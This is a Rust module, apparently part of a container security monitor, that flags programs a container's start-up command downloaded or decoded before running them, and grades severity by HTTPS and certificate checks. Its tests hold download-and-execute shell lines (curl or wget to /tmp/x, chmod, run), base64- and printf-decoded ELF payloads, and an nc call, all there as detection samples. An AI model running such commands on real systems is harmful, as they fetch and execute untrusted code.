//! Files that the container's own command fetched, or decoded from its text, before it ran them.

use bstr::ByteSlice as _;

use super::data_sources::{decodes, fetches};
use super::script_paths::locate_from;
use crate::catalog;
use crate::detect::rule_context::RuleContext;
use crate::detect::{Severity, program_roles};
use crate::state::ProcessEntry;

/// Maximum number of files through which the origin of a file is followed: an archive, a copy.
const MAX_STEPS: usize = 3;
/// A run of letters and digits from this length on is encoded data, not a word.
const ENCODED: usize = 24;

/// Escaped bytes in a text from which on it is a program, not a colour or a special character.
const ESCAPES: usize = 12;

/// How a file came into the container.
pub(super) struct Brought {
    /// As a line of a finding.
    pub(super) how: String,
    /// Severity of running it: low when nobody can have changed the download on its way.
    pub(super) severity: Severity,
}

impl Brought {
    fn fetched(safety: Safety, by: &str) -> Self {
        let (how, severity) = match safety {
            Safety::Checked => ("fetched by", Severity::Low),
            Safety::Unchecked => (
                "fetched without checking the certificate by",
                Severity::Medium,
            ),
            Safety::Open => ("fetched without https by", Severity::Medium),
        };
        let how = format!("{how}: {by}");
        Self { how, severity }
    }

    fn decoded(by: &str) -> Self {
        Self {
            how: format!("decoded from the command's own text by: {by}"),
            severity: Severity::Medium,
        }
    }
}

/// Whether somebody between may have changed a download.
#[derive(Clone, Copy)]
enum Safety {
    /// By https.
    Checked,
    /// By https, from whoever answers.
    Unchecked,
    Open,
}

/// The safety of a download that these words of a command line or a text describe.
fn safety<'a>(words: impl Iterator<Item = &'a [u8]> + Clone) -> Safety {
    let any = |part: &str| words.clone().any(|word| word.contains_str(part));
    if !any("https://") || any("http://") {
        return Safety::Open;
    }
    let names: &[&str] = &[
        "--insecure",
        "--no-check-certificate",
        "_create_unverified_context",
        "CERT_NONE",
        "verify=False",
        "rejectUnauthorized",
        "--check-certificate=false",
    ];
    // Several options in one word: `curl -fsSLk`.
    let plain = |b: &u8| b"fsSLkvigqnNOJR46#l".contains(b);
    let short = |word: &[u8]| {
        word.strip_prefix(b"-")
            .is_some_and(|letters| letters.contains(&b'k') && letters.iter().all(plain))
    };
    let unchecked = names.iter().any(|name| any(name)) || words.clone().any(short);
    match unchecked {
        true => Safety::Unchecked,
        false => Safety::Checked,
    }
}

/// How the file at `path` came into the container. `None`: not by a download or from encoded text.
pub(super) fn of(ctx: &RuleContext<'_>, path: &[u8]) -> Option<Brought> {
    let mut at = path.to_vec();
    for _ in 0..MAX_STEPS {
        let writer = ctx.writer(ctx.activity(&at)?)?;
        if let Some(how) = brought_by(ctx, writer).or_else(|| redirected(ctx, writer, &at)) {
            return Some(how);
        }
        at = source(ctx, writer, &at)?;
    }
    None
}

/// The process fetched the data that it wrote, or decoded it.
fn brought_by(ctx: &RuleContext<'_>, writer: &ProcessEntry) -> Option<Brought> {
    let name = program_roles::of(writer);
    let command = || program_roles::command_line(&writer.argv, &writer.exe, 160);
    if ctx.names().is_downloader(name) || fetches(ctx.names(), name, &writer.argv) {
        let safety = safety(writer.argv.iter().map(|word| &***word));
        return Some(Brought::fetched(safety, &command()));
    }
    if prints(ctx, name) && writer.argv.iter().skip(1).any(|text| is_escaped(text)) {
        return Some(Brought::decoded(&command()));
    }
    let text = text_above(ctx, writer)?;
    if decodes(ctx.names(), name, &writer.argv) && has_encoded_data(text) {
        return Some(Brought::decoded(&command()));
    }
    // The end of a pipe that begins with a download: `curl … | tar -x`.
    let own = program_roles::leaf(writer.argv.first()?);
    let piped = |statement: &[u8]| {
        let mut parts = statement.split(|b| *b == b'|').skip(1);
        let first = |part: &[u8]| {
            let mut words = part.trim_start().split(|b| b.is_ascii_whitespace());
            words.next().map(<[u8]>::to_vec).unwrap_or_default()
        };
        statement.contains_str("://")
            && has_program(statement, |name| ctx.names().is_downloader(name))
            && parts.any(|part| program_roles::leaf(&first(part)) == own)
    };
    let statement = statements(text).find(|statement| piped(statement))?;
    let shown = crate::event::escape(statement.trim()).to_string();
    Some(Brought::fetched(safety(words(statement)), &shown))
}

/// The words of a shell's text.
fn words(text: &[u8]) -> impl Iterator<Item = &[u8]> + Clone {
    text.split(|b| b.is_ascii_whitespace())
}

/// The program prints what its arguments say.
fn prints(ctx: &RuleContext<'_>, name: &[u8]) -> bool {
    matches!(name, b"printf" | b"echo") || ctx.names().is_interpreter(name)
}

/// The text is mostly bytes in escaped form, such as `\x7f\x45` or `\177\105`.
fn is_escaped(text: &[u8]) -> bool {
    let escape = |at: &usize| {
        let rest = text.get(at + 1..).unwrap_or_default();
        match rest.first() {
            Some(b'x') => rest.get(1).is_some_and(u8::is_ascii_hexdigit),
            Some(b) => b.is_ascii_digit(),
            None => false,
        }
    };
    let escapes = text.find_iter(b"\\").filter(escape).count();
    escapes >= ESCAPES && escapes * 8 >= text.len()
}

/// The statements of a shell's text, roughly: quotes are not followed.
fn statements(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    text.split(|b| matches!(b, b';' | b'\n'))
}

/// The shell opened the file for the output of a download or a decoder: `curl … >/tmp/x`.
fn redirected(ctx: &RuleContext<'_>, writer: &ProcessEntry, path: &[u8]) -> Option<Brought> {
    let text = program_roles::shell_text(&writer.argv)
        .filter(|_| ctx.names().is_shell(program_roles::of(writer)))?;
    let file = program_roles::leaf(path);
    let opens = |statement: &&[u8]| {
        let mut redirections = statement.find_iter(b">");
        redirections.any(|at| {
            let rest = statement.get(at + 1..).unwrap_or_default();
            let word = rest.trim_start().split(|b| b.is_ascii_whitespace()).next();
            let word = word
                .unwrap_or_default()
                .trim_with(|c| matches!(c, '"' | '\'' | ')'));
            program_roles::leaf(word) == file
        })
    };
    let decoder = |name: &[u8]| catalog::decoders::of(without_digits(name)).is_some();
    statements(text).filter(opens).find_map(|statement| {
        let shown = crate::event::escape(statement.trim()).to_string();
        if statement.contains_str("://")
            && has_program(statement, |name| ctx.names().is_downloader(name))
        {
            return Some(Brought::fetched(safety(words(statement)), &shown));
        }
        let decoded = statement.contains_str(" -d") && has_program(statement, decoder);
        (decoded && has_encoded_data(text) || is_escaped(statement))
            .then(|| Brought::decoded(&shown))
    })
}

/// The name of a decoder as the table has it: `base64` is `base`.
fn without_digits(name: &[u8]) -> &[u8] {
    name.trim_end_with(|c| c.is_ascii_digit())
}

/// A program that passes the test is among the words of the text.
fn has_program(text: &[u8], test: impl Fn(&[u8]) -> bool) -> bool {
    let ends = |b: &u8| b.is_ascii_whitespace() || matches!(b, b';' | b'(' | b'|' | b'`');
    let mut words = text.split(ends);
    words.any(|word| test(program_roles::leaf(word)))
}

/// The text of the shell that started the process.
fn text_above<'a>(ctx: &RuleContext<'a>, process: &ProcessEntry) -> Option<&'a [u8]> {
    let mut above = ctx.state.parent_of(process);
    for _ in 0..MAX_STEPS {
        let shell = above?;
        let text = program_roles::shell_text(&shell.argv);
        if ctx.names().is_shell(program_roles::of(shell)) && text.is_some() {
            return text;
        }
        above = ctx.state.parent_of(shell);
    }
    None
}

/// Whether the text contains data in base64 or hexadecimal digits.
fn has_encoded_data(text: &[u8]) -> bool {
    let inside = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'=');
    let mut runs = text.split(|b| !inside(*b));
    runs.any(|run| run.len() >= ENCODED)
}

/// Another file from which a program that copies, moves or unpacks made this one.
fn source(ctx: &RuleContext<'_>, writer: &ProcessEntry, path: &[u8]) -> Option<Vec<u8>> {
    let mut arguments = writer.argv.iter().skip(1).rev();
    arguments.find_map(|argument| {
        let argument = argument.strip_prefix(b"if=").unwrap_or(argument);
        let other = locate_from(ctx, &writer.cwd, argument)?;
        (other != path && ctx.activity(&other).is_some()).then_some(other)
    })
}

#[cfg(test)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;

    const BLOB: &str = "echo f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA | base64 -d >/tmp/x; /tmp/x";

    /// A start-up command with this text writes a program with `writer` and runs it.
    fn runs(text: &str, writer: &[&str]) -> Severity {
        let mut w = World::starting();
        let init = w.init();
        w.exec_as(init, 1, "/bin/sh", &["sh", "-c", text], |_| {});
        let by = w.exec(init, &format!("/usr/bin/{}", writer[0]), writer);
        w.create(by, "/tmp/x");
        w.exit(by);
        w.exec_new(init, "/tmp/x");
        w.highest()
    }

    #[test]
    fn programs_that_the_start_fetched_or_decoded() {
        let curl = |url| runs("x", &["curl", "-o", "/tmp/x", url]);
        assert_eq!(curl("http://203.0.113.9/x"), Severity::Medium);
        assert_eq!(curl("https://get.example/x"), Severity::Low);
        let unchecked = ["curl", "-fsSk", "-o", "/tmp/x", "https://get.example/x"];
        assert_eq!(runs("x", &unchecked), Severity::Medium);
        let unchecked = ["wget", "--no-check-certificate", "https://get.example/x"];
        assert_eq!(runs("x", &unchecked), Severity::Medium);
        let tgz = "wget -qO- https://get.example/x.tgz | tar -xz -C /tmp; /tmp/x";
        assert_eq!(runs(tgz, &["tar", "-xz", "-C", "/tmp"]), Severity::Low);
        let tgz = "wget -qO- http://get.example/x.tgz | tar -xz -C /tmp; /tmp/x";
        assert_eq!(runs(tgz, &["tar", "-xz", "-C", "/tmp"]), Severity::Medium);
        assert_eq!(runs("x", &["nc", "203.0.113.9", "80"]), Severity::Medium);
        assert_eq!(runs(BLOB, &["base64", "-d"]), Severity::Medium);
        let text = "echo \"$CONFIG\" | base64 -d >/tmp/x; sh /tmp/x";
        assert_eq!(runs(text, &["base64", "-d"]), Severity::Info);
        let text = "curl -s http://203.0.113.9/x.gz | gunzip >/tmp/x; /tmp/x";
        assert_eq!(runs(text, &["gunzip"]), Severity::Medium);
        let text = "curl -s http://127.0.0.1/ready | grep ok; cp /usr/bin/tool /tmp/x; /tmp/x";
        assert_eq!(
            runs(text, &["cp", "/usr/bin/tool", "/tmp/x"]),
            Severity::Info
        );
    }

    #[test]
    fn a_shell_that_opens_the_file_for_a_download() {
        for (text, severity) in [
            (
                "curl -s http://203.0.113.9/p >/tmp/x; chmod +x /tmp/x; /tmp/x",
                Severity::Medium,
            ),
            (
                "wget -qO- http://h/p > /tmp/x && chmod +x /tmp/x && /tmp/x",
                Severity::Medium,
            ),
            (
                "curl -s https://get.example/p >/tmp/x; /tmp/x",
                Severity::Low,
            ),
            (
                r"printf '\x7f\x45\x4c\x46\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02' >/tmp/x; /tmp/x",
                Severity::Medium,
            ),
            (
                r"printf '\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0' >/tmp/x; printf '\76\0\1' >>/tmp/x",
                Severity::Medium,
            ),
            (
                r"printf '#!/bin/sh\n\x23 \033[32mready\033[0m\nexec sleep 9\n' >/tmp/x; /tmp/x",
                Severity::Info,
            ),
            (
                "curl -s http://h/ready >/tmp/y; cat /usr/bin/a >/tmp/x; /tmp/x",
                Severity::Info,
            ),
        ] {
            let mut w = World::starting();
            let init = w.init();
            w.exec_as(init, 1, "/bin/sh", &["sh", "-c", text], |_| {});
            w.create(init, "/tmp/x");
            w.exec_new(init, "/tmp/x");
            assert_eq!(w.highest(), severity, "{text}");
        }
    }

    #[test]
    fn moved_after_the_download_and_run_after_the_start() {
        let mut w = World::starting();
        let init = w.init();
        let curl = ["curl", "-o", "/tmp/y", "http://203.0.113.9/x"];
        let curl = w.exec(init, "/usr/bin/curl", &curl);
        w.create(curl, "/tmp/y");
        w.exit(curl);
        let mv = w.exec(init, "/bin/mv", &["mv", "/tmp/y", "/usr/local/bin/y"]);
        w.rename(mv, "/tmp/y", "/usr/local/bin/y");
        w.ticks(60);
        w.exec_new(init, "/usr/local/bin/y");
        let found = w.finding("drift.exec-new");
        assert_eq!(found.severity, Severity::Medium);
        let why = found.why.join("\n");
        assert!(why.contains("fetched without https by: curl"), "{why}");
    }

    #[test]
    fn a_script_that_the_start_fetched() {
        for (url, severity) in [
            ("http://203.0.113.9/a.sh", Severity::Medium),
            ("https://get.example/a.sh", Severity::Low),
        ] {
            let mut w = World::starting();
            let init = w.init();
            let wget = w.exec(init, "/usr/bin/wget", &["wget", "-O", "/tmp/a", url]);
            w.create(wget, "/tmp/a");
            w.exec(init, "/bin/sh", &["sh", "/tmp/a"]);
            assert_eq!(w.highest(), severity, "{url}");
        }
    }
}
